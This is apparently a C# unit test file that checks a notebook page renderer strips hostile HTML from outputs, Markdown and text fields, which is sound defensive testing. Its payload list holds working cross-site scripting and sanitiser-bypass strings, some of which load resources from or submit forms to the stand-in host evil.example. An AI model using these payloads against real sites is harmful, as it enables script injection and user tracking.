using System.Text.Json.Nodes;
using AngleSharp.Dom;
using LeoKit.Notebooks.Document;
using LeoKit.Notebooks.Pages;
using static LeoKit.Notebooks.Tests.Pages.PageSample;

namespace LeoKit.Notebooks.Tests.Pages;

/// <summary>Whatever a notebook contains, its page runs nothing and loads nothing.</summary>
public sealed class HostileContentTests
{
    static readonly string[] Addresses = ["src", "srcset", "href", "xlink:href", "action", "formaction", "data", "poster", "background", "ping", "srcdoc"];

    public static TheoryData<string> Payloads =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://evil.example/track.png\">",
        "<img srcset=\"https://evil.example/a.png 2x\" src=\"//evil.example/a.png\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" jAvAsCrIpT:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#10;script:alert(1)\">x</a>",
        "<a href=\"vbscript:x\">x</a><a href=\"data:text/html,<script>alert(1)</script>\">x</a><a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"//evil.example\">x</a><a href=\"\\\\evil.example\">x</a><a href=\"/\\evil.example\">x</a><a href=\"http://evil.example\">x</a>",
        "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><use href=\"https://evil.example/a.svg#x\"/><image href=\"https://evil.example/a.png\"/><foreignObject><iframe src=x></iframe></foreignObject></svg>",
        "<svg><rect fill=\"url(https://evil.example/a.svg#p)\" filter=\"url('//evil.example')\"/><rect fill=\"u\\72l(https://evil.example)\"/></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /><set attributeName=onmouseover to=alert(1) /></svg>",
        "<div style=\"background:url(https://evil.example/x)\">x</div><style>@import 'https://evil.example/x.css';</style>",
        "<iframe src=\"https://evil.example\"></iframe><object data=x></object><embed src=x><base href=\"https://evil.example\">",
        "<form action=\"https://evil.example\"><input autofocus onfocus=alert(1)><button formaction=x>b</button></form>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\"><link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<img src=\"data:text/html,<script>alert(1)</script>\"><img src=\"data:image/svg+xml-x,<svg/>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
        "<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea><xmp><img src=x onerror=alert(1)></xmp>",
        "<details open ontoggle=alert(1)>x</details><video poster=\"https://evil.example/x\"><source onerror=alert(1)></video>",
        "</div></main></body><script>alert(1)</script>",
        "<template><img src=x onerror=alert(1)></template><!--<img src=x onerror=alert(1)>-->",
        "<p contenteditable tabindex=5 accesskey=x id=\"__proto__\" name=body>x</p>",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Nothing_hostile_survives_in_an_output(string payload) => AssertHarmless(Page(Code("x", Html(payload))).Parsed());

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Nothing_hostile_survives_in_Markdown(string payload) => AssertHarmless(Page(Prose($"# A\n\n{payload}\n\ntext {payload} text")).Parsed());

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Nothing_hostile_survives_where_text_is_shown(string payload)
    {
        Output[] outputs =
        [
            new StreamOutput("stdout", payload),
            new ErrorOutput(payload, payload, [payload]),
            Shown(("text/plain", payload)),
            Shown(("text/markdown", payload)),
            Shown((payload, "x")),
            Shown(("image/png", payload), ("text/plain", payload)),
        ];
        var page = Page(Code(payload, outputs)) with { Name = payload, Outcome = PageOutcome.Stopped(payload) };

        AssertHarmless(page.Parsed(Options with { Title = payload, Notice = payload, Language = payload }));
    }

    [Fact]
    public void A_Markdown_link_or_image_with_a_forbidden_address_leaves_its_text()
    {
        var main = MainOf(Prose("[click](javascript:alert(1)) ![A map](https://evil.example/map.png) ![x](data:text/html;base64,AAAA)"));

        Assert.Null(main.One("a").GetAttribute("href"));
        Assert.Equal("click", main.One("a").TextContent);
        Assert.Contains("Image, not carried by this page: A map", main.TextContent, StringComparison.Ordinal);
        Assert.Empty(main.QuerySelectorAll("img"));
    }

    [Fact]
    public void A_figure_cannot_end_the_script_element_it_stands_in()
    {
        var figure = new JsonObject { ["data"] = new JsonArray(), ["layout"] = new JsonObject { ["title"] = "</script><script>alert(1)</script><!--" } };
        var page = Page(Code("x", Shown(("application/vnd.plotly.v1+json", figure)))).Parsed();
        var script = page.One("script:not([src])");

        Assert.Equal("application/json", script.GetAttribute("type"));
        Assert.Equal("</script><script>alert(1)</script><!--", JsonNode.Parse(script.TextContent)!["layout"]!["title"]!.GetValue<string>());
        AssertHarmless(page);
    }

    [Fact]
    public void A_drawing_is_shown_as_an_image_in_which_no_script_can_run()
    {
        var image = MainOf(Code("x", Shown(("image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>"), ("text/plain", "A bar chart")))).One("img");

        Assert.StartsWith("data:image/svg+xml;base64,", image.GetAttribute("src"), StringComparison.Ordinal);
        Assert.Equal("A bar chart", image.GetAttribute("alt"));
    }

    [Fact]
    public void Ordinary_content_survives()
    {
        const string Kept = "<details><summary>More</summary><table><caption>c</caption><thead><tr><th scope=\"col\">a</th></tr></thead><tbody><tr><td class=\"n\">1</td></tr></tbody></table></details>"
            + "<svg viewBox=\"0 0 10 10\" role=\"img\" aria-label=\"A line\"><path d=\"M0 0L9 9\" stroke=\"#000\" stroke-width=\"2\"></path></svg>"
            + "<p><a href=\"https://example.org/a?b=c:d\">a</a> <a href=\"mailto:a@example.org\">b</a> <a href=\"../c.html\">c</a> <a href=\"#d\">d</a></p>";
        var main = MainOf(Code("x", Html(Kept)));

        Assert.Equal(["https://example.org/a?b=c:d", "mailto:a@example.org", "../c.html", "#d"], main.QuerySelectorAll("a").Select(link => link.GetAttribute("href")));
        Assert.Equal("0 0 10 10", main.One("svg").GetAttribute("viewBox"));
        Assert.Equal("2", main.One("svg path").GetAttribute("stroke-width"));
        Assert.Equal("c", main.One("details table caption").TextContent);
    }

    static void AssertHarmless(IDocument page)
    {
        Assert.All(page.QuerySelectorAll("script"), script => Assert.True(
            script.GetAttribute("src")?.StartsWith("assets/", StringComparison.Ordinal) ?? script.GetAttribute("type") == "application/json"));
        Assert.Empty(page.QuerySelectorAll("main style, iframe, object, embed, base, form, input, button, textarea, template, noscript, math, video, use, image, foreignObject, animate, set"));
        Assert.Equal(2, page.QuerySelectorAll("link").Length);
        Assert.Single(page.QuerySelectorAll("meta[http-equiv]"));
        foreach (var element in page.QuerySelectorAll("*"))
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), attribute.Name);
                Assert.NotEqual("style", attribute.Name);
                if (Addresses.Contains(attribute.Name, StringComparer.OrdinalIgnoreCase))
                    AssertAllowed(element, attribute.Value);
                if (attribute.Name is "fill" or "filter" or "stroke" or "clip-path")
                    Assert.DoesNotContain("evil", attribute.Value, StringComparison.Ordinal);
            }
    }

    static void AssertAllowed(IElement element, string address)
    {
        if (element.LocalName is "a")
            Assert.Matches("^(https:|mailto:|[^:/\\\\]|$)(?![^/]*script:)", address);
        else if (address != "data:,")
            Assert.Matches("^(data:image/(png|jpeg|gif|webp|svg\\+xml)[;,]|[^:/\\\\]*$|assets/)", address);
    }
}
